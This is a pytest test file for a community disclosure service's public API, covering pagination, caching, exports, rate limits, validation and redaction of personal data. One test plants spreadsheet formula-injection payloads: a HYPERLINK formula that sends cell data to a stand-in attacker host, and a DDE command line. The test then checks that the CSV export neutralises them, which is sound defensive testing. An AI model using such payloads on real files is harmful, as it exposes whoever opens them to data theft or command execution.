"""The public API: stable cursor pagination, cache revalidation, Atom, CSV, rate limits, the redaction scan."""

from __future__ import annotations

import base64
import csv
import io
import json
import uuid
import xml.etree.ElementTree as ET
from datetime import UTC, datetime

import httpx
import pytest
from sqlalchemy import text
from disclosure_helpers import PLANTED_ID, PLANTED_NAMES, PLANTED_PHONES, new_community

from services.disclosure.app import create_app
from services.disclosure.http import ResponseCache
from services.disclosure.leakcheck import find_leaks
from services.disclosure.rules.cadence import SHANGHAI
from services.matters import events as matters
from youmin.testing import eventually


async def post(disclosure, unit: str, title: str, kind: str = "residents") -> dict:
    resp = await disclosure.client.post(
        "/api/v1/disclosure/items",
        json={"unit_code": unit, "kind": kind, "category": "notice", "title": title, "body": "正文"},
        headers=disclosure.token("community_staff", unit[:12]))
    assert resp.status_code == 201, resp.text
    return resp.json()


async def walk(disclosure, unit: str, limit: int, between_pages=None, order: str = "newest") -> list[str]:
    seen: list[str] = []
    cursor = None
    while True:
        params = {"unit": unit, "limit": limit, "order": order, **({"cursor": cursor} if cursor else {})}
        page = (await disclosure.client.get("/public/v1/items", params=params)).json()
        seen += [i["id"] for i in page["items"]]
        cursor = page["next_cursor"]
        if between_pages:
            await between_pages()
        if order == "newest" and not cursor:
            return seen
        if order == "commit" and not page["items"]:
            return seen


async def test_newest_first_pages_neither_skip_nor_repeat_while_items_arrive(disclosure):
    community = new_community()
    before = [(await post(disclosure, community, f"通知{n}"))["id"] for n in range(7)]

    async def another():
        await post(disclosure, community, "新通知")

    seen = await walk(disclosure, community, limit=3, between_pages=another)
    assert seen == list(reversed(before))


async def test_commit_order_feed_delivers_every_item_once_including_new_ones(disclosure):
    community = new_community()
    first = [(await post(disclosure, community, f"通知{n}"))["id"] for n in range(5)]
    added: list[str] = []

    async def another():
        if len(added) < 4:
            added.append((await post(disclosure, community, "新通知"))["id"])

    seen = await walk(disclosure, community, limit=2, between_pages=another, order="commit")
    assert seen == first + added


async def test_commit_order_feed_holds_back_items_behind_a_running_transaction(disclosure):
    community = new_community()
    # A transaction that started earlier and may still write holds the horizon back: an item committed
    # after it is not shown yet, so a cursor can never pass something that commits late.
    async with disclosure.app.state.sessions() as session:
        await session.execute(text("SELECT pg_current_xact_id()"))
        await post(disclosure, community, "已提交")
        held = (await disclosure.client.get("/public/v1/items", params={"unit": community, "order": "commit"})).json()
        await session.rollback()
    assert held["items"] == []
    page = (await disclosure.client.get("/public/v1/items", params={"unit": community, "order": "commit"})).json()
    assert [i["title"] for i in page["items"]] == ["已提交"]


async def test_the_feed_of_changes_brings_a_withdrawn_item_back_as_a_tombstone_and_a_changed_one_again(disclosure):
    community = new_community()
    kept, gone = [(await post(disclosure, community, title))["id"] for title in ("季度公开", "误贴了住户证件号的通知")]

    async def feed(cursor: str | None) -> dict:
        params = {"unit": community, "order": "changes", **({"cursor": cursor} if cursor else {})}
        resp = await disclosure.client.get("/public/v1/items", params=params)
        assert resp.status_code == 200, resp.text
        return resp.json()

    first = await feed(None)
    assert [(i["id"], i["withdrawn"]) for i in first["items"]] == [(kept, False), (gone, False)]
    assert (await feed(first["next_cursor"]))["items"] == []  # nothing changed since
    withdrawn = await disclosure.client.post(f"/api/v1/disclosure/items/{gone}/withdraw", headers=disclosure.token(
        "community_staff", community), json={"reason": "含个人信息", "personal_data": True})
    assert withdrawn.status_code == 200, withdrawn.text
    later = await feed(first["next_cursor"])
    [tombstone] = later["items"]
    assert tombstone["id"] == gone and tombstone["withdrawn"] is True and tombstone["withdrawn_at"]
    assert set(tombstone) == {"id", "unit_code", "community_code", "withdrawn", "withdrawn_at"}
    assert (await feed(later["next_cursor"]))["items"] == []


async def test_bad_cursor_is_a_422_naming_the_cursor(disclosure):
    resp = await disclosure.client.get("/public/v1/items", params={"unit": "370705", "cursor": "bm9wZQ"})
    assert resp.status_code == 422 and resp.json()["errors"][0]["field"] == "cursor"


@pytest.mark.parametrize(("path", "field"), [
    ("/public/v1/items?unit=13712345678", "unit"),  # a mobile number's shape is no unit code's
    ("/public/v1/units/02651916008/feed.atom", "code"),  # nor a landline's
    ("/public/v1/units?parent=0370705", "parent"),
    ("/public/v1/units/3707050010011", "code"),  # 13 digits: between two levels
    ("/public/v1/matters?unit=37070500100", "unit"),
    ("/portal/units/13712345678", "code"),
])
async def test_a_unit_code_of_no_level_is_a_422_naming_the_field_and_not_repeated(disclosure, path, field):
    resp = await disclosure.client.get(path)
    assert resp.status_code == 422, resp.text
    if path.startswith("/portal"):
        assert "请求有误" in resp.text  # the portal's page for a resident's browser
    else:
        assert resp.json()["errors"][0]["field"] == field
    assert path.split("/")[-1].split("=")[-1].split(".")[0] not in resp.text


async def test_listing_revalidates_with_304_until_an_item_arrives(disclosure):
    community = new_community()
    await post(disclosure, community, "通知")
    first = await disclosure.client.get("/public/v1/items", params={"unit": community})
    etag = first.headers["etag"]
    assert "max-age" in first.headers["cache-control"] and "public" in first.headers["cache-control"]
    again = await disclosure.client.get("/public/v1/items", params={"unit": community},
                                        headers={"if-none-match": etag})
    assert again.status_code == 304 and again.content == b"" and again.headers["etag"] == etag
    await post(disclosure, community, "新通知")
    changed = await disclosure.client.get("/public/v1/items", params={"unit": community},
                                          headers={"if-none-match": etag})
    assert changed.status_code == 200 and changed.headers["etag"] != etag


async def test_requests_the_micro_cache_keeps_apart_get_their_own_answers(disclosure):
    community, other = new_community(), new_community()
    notice = await post(disclosure, community, "党务通知", kind="party")
    elsewhere = await post(disclosure, other, "另一社区通知")
    disclosure.app.state.public_cache = ResponseCache(60)  # warm for the whole test
    try:
        async def listed(query: str) -> dict:
            resp = await disclosure.client.get(f"/public/v1/items?{query}")
            assert resp.status_code == 200, resp.text
            return resp.json()

        plain = await listed(f"category=notice&kind=party&unit={community}")
        assert [i["id"] for i in plain["items"]] == [notice["id"]]
        # One category whose name holds "&" and "=": no kind, and no notice of that category.
        encoded = await listed(f"category=notice%26kind%3Dparty&unit={community}")
        assert encoded["kind"] is None and encoded["items"] == []
        # The same parameters in another order are one request, answered from the cache.
        assert await listed(f"unit={community}&kind=party&category=notice") == plain
        # Another unit's listing with the same filters is its own.
        assert [i["id"] for i in (await listed(f"unit={other}&category=notice"))["items"]] == [elsewhere["id"]]
        # A repeated parameter is refused, not answered from the cache of either of its values.
        repeated = await disclosure.client.get(f"/public/v1/items?unit={other}&unit={community}")
        assert repeated.status_code == 422 and repeated.json()["errors"][0]["field"] == "unit", repeated.text
    finally:
        disclosure.app.state.public_cache = ResponseCache(disclosure.settings.public_cache_seconds)


async def test_matter_progress_revalidates_with_304(disclosure):
    community = new_community()
    matter_id = uuid.uuid4()
    await disclosure.send(matters.MatterRaised(matter_id=matter_id, community_code=community, unit_code=community,
                                               category="facilities", raised_via="app", raised_at=datetime.now(UTC)))

    async def found():
        resp = await disclosure.client.get(f"/public/v1/matters/{matter_id}")
        return resp if resp.status_code == 200 else None

    resp = await eventually(found)
    again = await disclosure.client.get(f"/public/v1/matters/{matter_id}", headers={"if-none-match": resp.headers["etag"]})
    assert again.status_code == 304


async def test_atom_feed_lists_the_units_items(disclosure):
    community = new_community()
    item = await post(disclosure, community, "十一月党员大会", kind="party")
    resp = await disclosure.client.get(f"/public/v1/units/{community[:9]}/feed.atom")
    assert resp.headers["content-type"].startswith("application/atom+xml")
    feed = ET.fromstring(resp.content)
    ns = {"a": "http://www.w3.org/2005/Atom"}
    ids = [e.findtext("a:id", namespaces=ns) for e in feed.findall("a:entry", ns)]
    assert f"urn:uuid:{item['id']}" in ids
    # No public base configured: links are relative to the feed's address, never the address this service sees.
    links = [link.get("href") for link in feed.iter("{http://www.w3.org/2005/Atom}link")]
    assert f"/portal/items/{item['id']}" in links and all(link.startswith("/") for link in links)


async def test_csv_export_has_a_row_per_item_and_per_finance_line(disclosure):
    community = new_community()
    await post(disclosure, community, "通知")
    statement = await disclosure.client.post(
        "/api/v1/disclosure/finance-statements", headers=disclosure.token("community_staff", community),
        json={"unit_code": community, "period": "2026-10", "lines": [
            {"fund_type": "party_service", "income_cents": 20_000_000, "expenditure_cents": 150, "balance_cents": 19_999_850},
            {"fund_type": "grid_service", "income_cents": 100, "expenditure_cents": 0, "balance_cents": 100}]})
    items = await disclosure.client.get("/public/v1/items.csv", params={"unit": community})
    assert items.headers["content-type"].startswith("text/csv")
    rows = items.content.decode("utf-8-sig").strip().splitlines()
    assert len(rows) == 3 and rows[0].startswith("id,published_at")
    lines = await disclosure.client.get("/public/v1/items.csv", params={"unit": community, "lines": True})
    line_rows = lines.content.decode("utf-8-sig").strip().splitlines()
    assert len(line_rows) == 3 and "200000.00" in line_rows[1] and "199998.50" in line_rows[1]
    assert line_rows[1].split(",")[7] == ""  # no opening balance given: left empty, not 0.00
    page = (await disclosure.client.get(f"/portal/items/{statement.json()['id']}")).text
    assert "收支明细" in page and "期初" not in page  # no column of empty cells


async def test_csv_export_reads_every_page(disclosure, monkeypatch):
    from services.disclosure import public

    community = new_community()
    posted = {(await post(disclosure, community, f"通知{n}"))["id"] for n in range(7)}
    monkeypatch.setattr(public, "EXPORT_PAGE", 3)
    rows = (await disclosure.client.get("/public/v1/items.csv", params={"unit": community})).content
    assert {r.split(",")[0] for r in rows.decode("utf-8-sig").strip().splitlines()[1:]} == posted
    monkeypatch.setattr(public, "MAX_EXPORT_ITEMS", 5)
    refused = await disclosure.client.get("/public/v1/items.csv", params={"unit": community, "kind": "residents"})
    assert refused.status_code == 422 and refused.json()["errors"][0]["field"] == "period"


async def post_statement(disclosure, unit: str, period: str, party_service_cents: int) -> dict:
    resp = await disclosure.client.post(
        "/api/v1/disclosure/finance-statements", headers=disclosure.token("community_staff", unit),
        json={"unit_code": unit, "period": period, "lines": [
            {"fund_type": "party_service", "income_cents": party_service_cents, "expenditure_cents": 0,
             "balance_cents": party_service_cents}]})
    assert resp.status_code == 201, resp.text
    return resp.json()


async def listed(disclosure, unit: str, period: str, limit: int = 200) -> set[str]:
    """The ids a period's listing holds, read page by page."""
    seen: list[str] = []
    cursor = None
    while True:
        params = {"unit": unit, "period": period, "limit": limit, **({"cursor": cursor} if cursor else {})}
        resp = await disclosure.client.get("/public/v1/items", params=params)
        assert resp.status_code == 200, resp.text
        seen += [i["id"] for i in resp.json()["items"]]
        if not (cursor := resp.json()["next_cursor"]):
            assert len(seen) == len(set(seen))
            return set(seen)


async def test_a_statement_is_listed_in_the_period_it_covers_and_a_notice_in_the_month_it_was_published(
        disclosure, clock):
    community = new_community()
    clock.set(datetime(2026, 9, 30, 23, 30, tzinfo=SHANGHAI))  # 15:30 UTC: still September in Weifang
    september_notice = (await post(disclosure, community, "九月通知"))["id"]
    clock.set(datetime(2026, 10, 8, 10, tzinfo=SHANGHAI))
    september = (await post_statement(disclosure, community, "2026-09", 1_000_000))["id"]
    october_notice = (await post(disclosure, community, "十月通知"))["id"]

    assert await listed(disclosure, community, "2026-09") == {september_notice, september}
    assert await listed(disclosure, community, "2026-Q3") == {september_notice, september}
    assert await listed(disclosure, community, "2026-10") == {october_notice}
    assert await listed(disclosure, community, "2026-Q4") == {october_notice}
    assert await listed(disclosure, community, "2026", limit=1) == {september_notice, september, october_notice}
    assert await listed(disclosure, community, "2025") == set()
    finance = await disclosure.client.get("/public/v1/items", params={"unit": community, "period": "2026-09",
                                                                      "kind": "finance"})
    assert [i["id"] for i in finance.json()["items"]] == [september]


async def test_a_years_finance_lines_hold_its_december_posted_in_january_and_not_the_year_befores(disclosure, clock):
    community = new_community()
    clock.set(datetime(2026, 1, 8, 10, tzinfo=SHANGHAI))
    await post_statement(disclosure, community, "2025-12", 100)
    clock.set(datetime(2026, 6, 8, 10, tzinfo=SHANGHAI))
    await post_statement(disclosure, community, "2026-05", 20_000)
    clock.set(datetime(2027, 1, 8, 10, tzinfo=SHANGHAI))
    await post_statement(disclosure, community, "2026-12", 3_000_000)

    async def lines(period: str) -> list[dict[str, str]]:
        resp = await disclosure.client.get("/public/v1/items.csv",
                                           params={"unit": community, "period": period, "lines": True})
        assert resp.status_code == 200, resp.text
        return list(csv.DictReader(io.StringIO(resp.content.decode("utf-8-sig"))))

    year = await lines("2026")
    assert sorted(r["period"] for r in year) == ["2026-05", "2026-12"]
    assert sum(float(r["income_yuan"]) for r in year if r["fund_type"] == "party_service") == 30_200.00
    assert [r["period"] for r in await lines("2027")] == []
    assert [r["period"] for r in await lines("2025")] == ["2025-12"]
    assert [r["period"] for r in await lines("2026-Q4")] == ["2026-12"]


@pytest.mark.parametrize("parts", [["n", "2026-01-01T00:00:00+00:00", 5], ["n", 5, "x"], ["n", "2026-01-01", [1]],
                                   ["c", {"a": 1}, 2]])
async def test_a_hand_made_cursor_of_the_wrong_types_is_a_422(disclosure, parts):
    from services.disclosure.reads import encode_cursor

    resp = await disclosure.client.get("/public/v1/items", params={"unit": new_community(), "cursor": encode_cursor(parts)})
    assert resp.status_code == 422 and resp.json()["errors"][0]["field"] == "cursor"


async def test_public_api_answers_429_with_retry_after_per_client(infra):
    from services.disclosure.settings import Settings

    settings = Settings(service_database_url=infra.database_url("disclosure"), kafka_bootstrap_servers=infra.bootstrap,
                        environment="test", relay_enabled=False, consumers_enabled=False,
                        public_rate_per_second=0.5, public_rate_burst=3, supervision_sweep_seconds=0)
    app = create_app(settings)
    async with app.router.lifespan_context(app):
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://d") as client:
            codes = [(await client.get("/public/v1/units", headers={"x-forwarded-for": "198.51.100.7"})).status_code
                     for _ in range(4)]
            other = await client.get("/public/v1/units", headers={"x-forwarded-for": "198.51.100.8"})
            limited = await client.get("/public/v1/units", headers={"x-forwarded-for": "198.51.100.7"})
    assert codes == [200, 200, 200, 429]
    assert other.status_code == 200
    assert limited.status_code == 429 and int(limited.headers["retry-after"]) >= 1
    assert limited.headers["content-type"].startswith("application/problem+json")


async def test_public_responses_carry_no_personal_data(disclosure):
    """The redaction scan: plant personal data everywhere staff can type, then read every public surface."""
    community = new_community()
    planted = (f"{PLANTED_NAMES[0]}、{PLANTED_NAMES[1]}参加。电话{PLANTED_PHONES[0]}，{PLANTED_PHONES[1]}，"
            f"身份证号{PLANTED_ID}。")
    headers = disclosure.token("community_staff", community)
    minutes = (await disclosure.client.post(
        "/api/v1/disclosure/items", headers=headers,
        json={"unit_code": community, "kind": "party", "category": "minutes", "title": f"{PLANTED_NAMES[0]}的发言",
              "body": planted, "people": list(PLANTED_NAMES)})).json()
    await disclosure.client.post(
        "/api/v1/disclosure/finance-statements", headers=headers,
        json={"unit_code": community, "period": "2026-11", "note": planted,
              "lines": [{"fund_type": "other", "income_cents": 1, "expenditure_cents": 0, "balance_cents": 1,
                         "note": f"报销人{PLANTED_NAMES[2]} {PLANTED_PHONES[0]}"}]})
    matter_id = uuid.uuid4()
    await disclosure.send(matters.MatterDecided(
        matter_id=matter_id, community_code=community, unit_code=community, category="facilities",
        channel="residents_meeting", public_title=f"{PLANTED_NAMES[1]}家门口路灯维修 {PLANTED_PHONES[0]}",
        rule_version="urco-2018", quorum_met=True, passed=True, base_size=10, present=8, votes_for=6,
        votes_against=1, abstain=1, decided_at=datetime.now(UTC)))

    async def decided():
        resp = await disclosure.client.get(f"/public/v1/matters/{matter_id}")
        return resp.status_code == 200

    await eventually(decided)
    bodies = []
    for url, params in [
        ("/public/v1/items", {"unit": community}), ("/public/v1/items", {"unit": community[:9], "limit": 200}),
        (f"/public/v1/items/{minutes['id']}", {}), ("/public/v1/items.csv", {"unit": community}),
        ("/public/v1/items.csv", {"unit": community, "lines": True}), (f"/public/v1/units/{community}/feed.atom", {}),
        (f"/public/v1/matters/{matter_id}", {}), ("/public/v1/matters", {"unit": community}),
        (f"/portal/units/{community}", {}), (f"/portal/items/{minutes['id']}", {}), (f"/portal/matters/{matter_id}", {}),
    ]:
        resp = await disclosure.client.get(url, params=params)
        assert resp.status_code == 200, (url, resp.status_code)
        bodies.append((url, resp.text))
    leaks = [leak for url, body in bodies for leak in find_leaks(url, body, PLANTED_NAMES)]
    assert leaks == []
    # The scan itself can fail: the raw text it would have caught.
    assert find_leaks("raw", planted, PLANTED_NAMES)


@pytest.mark.parametrize("period", ["0001", "0001-01", "0001-Q1", "9999", "２０２６", "٢٠٢٦-01"])
async def test_a_period_outside_the_boards_years_or_in_other_digits_is_a_422_naming_it(disclosure, period):
    for path in ("/public/v1/items", "/public/v1/items.csv"):
        resp = await disclosure.client.get(path, params={"unit": "370705", "period": period})
        assert resp.status_code == 422, (path, resp.text)
        assert resp.json()["errors"][0]["field"] == "period"


@pytest.mark.parametrize("period", ["2026-99", "2026-00", "0000", "9999-01"])
async def test_mediation_statistics_take_only_a_real_year_or_month(disclosure, period):
    resp = await disclosure.client.get("/public/v1/statistics/mediation", params={"unit": "370705", "period": period})
    assert resp.status_code == 422 and resp.json()["errors"][0]["field"] == "period", resp.text
    twice = await disclosure.client.get("/public/v1/statistics/mediation",
                                        params={"unit": "370705", "period": "2026-11", "group_by": "level,level"})
    assert twice.status_code == 200 and twice.json()["group_by"] == ["level"]


@pytest.mark.parametrize("parts", [["n", "0001-01-01T00:00:00+14:00", str(uuid.UUID(int=1))],
                                   ["n", "9999-12-31T23:59:59-14:00", str(uuid.UUID(int=1))],
                                   ["c", 1, 10**30], ["c", -1, 1], ["x", 1, 10**30], ["c", "Infinity", 0],
                                   ["x", "1e400", 1]])
async def test_a_hand_made_cursor_out_of_range_is_a_422_naming_it(disclosure, parts):
    # JSON as Python reads it takes Infinity and 1e400 (a float too large for an int): written as such, not quoted.
    cursor = base64.urlsafe_b64encode(json.dumps(parts).replace('"Infinity"', "Infinity").replace('"1e400"', "1e400")
                                      .encode()).decode().rstrip("=")
    order = {"n": "newest", "c": "commit", "x": "changes"}[parts[0]]
    resp = await disclosure.client.get("/public/v1/items", params={"unit": "370705", "cursor": cursor, "order": order})
    assert resp.status_code == 422, resp.text
    assert resp.json()["errors"][0]["field"] == "cursor"
    community = new_community()
    portal = await disclosure.client.get(f"/portal/units/{community}", params={"cursor": cursor})
    assert portal.status_code == 422 and portal.headers["content-type"].startswith("text/html"), portal.text
    assert "请求有误" in portal.text  # a resident's browser gets the portal's page, not a JSON problem
    odd = await disclosure.client.get(f"/portal/units/{community}", params={"kind": "xx"})
    assert odd.status_code == 422 and "请求有误" in odd.text


async def test_finance_amounts_past_the_bound_are_a_422_naming_the_line(disclosure):
    community = new_community()
    resp = await disclosure.client.post(
        "/api/v1/disclosure/finance-statements", headers=disclosure.token("community_staff", community),
        json={"unit_code": community, "period": "2026-10", "lines": [
            {"fund_type": "party_service", "income_cents": 10**400, "expenditure_cents": 0, "balance_cents": 0}]})
    assert resp.status_code == 422, resp.text
    assert resp.json()["errors"][0]["field"] == "lines.0.income_cents"


async def test_exports_and_feeds_carry_staff_text_safely(disclosure):
    # A title that would run as a spreadsheet formula, and control characters XML cannot carry.
    community = new_community()
    staff = disclosure.token("community_staff", community)
    for title in ('=HYPERLINK("http://evil.example/?x="&A1,"点击")', "通知\x0b第二\x1b行"):
        made = await disclosure.client.post("/api/v1/disclosure/items", headers=staff, json={
            "unit_code": community, "kind": "residents", "category": "notice", "title": title, "body": "内容"})
        assert made.status_code == 201, made.text
    await disclosure.client.post("/api/v1/disclosure/finance-statements", headers=staff, json={
        "unit_code": community, "period": "2026-10", "lines": [
            {"fund_type": "party_service", "income_cents": 100, "expenditure_cents": 0, "balance_cents": -250,
             "note": "+cmd|' /C calc'!A0"}]})
    import csv as csv_module
    import io

    items = await disclosure.client.get("/public/v1/items.csv", params={"unit": community})
    cells = [c for row in csv_module.reader(io.StringIO(items.content.decode("utf-8-sig"))) for c in row]
    assert not any(c.startswith(("=", "+", "@")) for c in cells), cells
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")" in cells
    lines = await disclosure.client.get("/public/v1/items.csv", params={"unit": community, "lines": True})
    line_cells = [c for row in csv_module.reader(io.StringIO(lines.content.decode("utf-8-sig"))) for c in row]
    assert "'+cmd|' /C calc'!A0" in line_cells and "-2.50" in line_cells  # amounts stay numbers
    feed = await disclosure.client.get(f"/public/v1/units/{community}/feed.atom")
    root = ET.fromstring(feed.content)  # well-formed
    titles = [e.findtext("{http://www.w3.org/2005/Atom}title") for e in root.findall("{http://www.w3.org/2005/Atom}entry")]
    assert "通知第二行" in titles


async def test_a_phone_number_a_resident_types_into_a_question_is_masked_however_written(disclosure):
    community = new_community()
    item = await post(disclosure, community, "公示")
    resident = disclosure.token("resident", community + "001001010001")
    bodies = ["我的手机Tel13912345678请回电", "微信wx13912345679", "电话139.1234.5670"]
    for body in bodies:
        asked = await disclosure.client.post(f"/api/v1/disclosure/items/{item['id']}/questions", headers=resident,
                                             json={"kind": "question", "body": body})
        assert asked.status_code == 201, asked.text
    public = (await disclosure.client.get(f"/public/v1/items/{item['id']}")).text
    for number in ("13912345678", "13912345679", "139.1234.5670"):
        assert number not in public
    # The WeChat account, a phone number in it or not, keeps its first character only.
    assert public.count("139****") >= 2 and "微信w***" in public
